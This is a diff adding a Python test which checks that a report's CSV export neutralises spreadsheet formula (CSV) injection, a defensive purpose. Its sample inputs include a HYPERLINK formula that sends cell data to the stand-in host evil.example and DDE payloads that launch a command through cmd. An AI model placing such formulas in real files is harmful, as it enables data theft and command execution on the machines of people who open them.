@@ -4,6 +4,7 @@ shapes, writing whole or not at all, and charts that reveal nothing the tables h
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import errno
 import io
@@ -162,6 +163,37 @@ def test_csv_uses_crlf_and_names_the_filter():
     data = render_report(hand_built(CaseKind.MEDIATION), "csv")
     assert data.count(b"\r\n") == len(data.splitlines())
     assert {r["kind_filter"] for r in csv_rows(data)} == {"Mediation"}
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\tTab Council",
+    "\rCR Council",
+)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised():
+    """OWASP CSV injection: a user's text that starts =, +, -, @, tab or carriage return gets a
+    leading single quote (and every cell is quoted); the app's own numbers are left alone."""
+    report = hand_built()
+    rows = tuple(AuthorityRow(name, 6, 6, 6, 6) for name in FORMULAS)
+    chosen = ReportFilter(dt.date(2026, 1, 1), dt.date(2026, 3, 31), local_authority=FORMULAS[1])
+    report = dataclasses.replace(report, filter=chosen, authorities=rows)
+    data = render_report(report, "csv")
+    parsed = csv_rows(data)
+    items = {r["item"] for r in parsed if r["table"] == "by local authority"}
+    assert items == {"'" + name for name in FORMULAS}
+    assert {r["local_authority_filter"] for r in parsed} == {"'" + FORMULAS[1]}
+    text = data.decode("utf-8-sig")
+    assert all(line.startswith('"') for line in text.split("\r\n") if line)
+    for row in parsed:  # nothing a spreadsheet would run is left at the start of any cell
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
 
 
 # -- JSON -----------------------------------------------------------------------------------
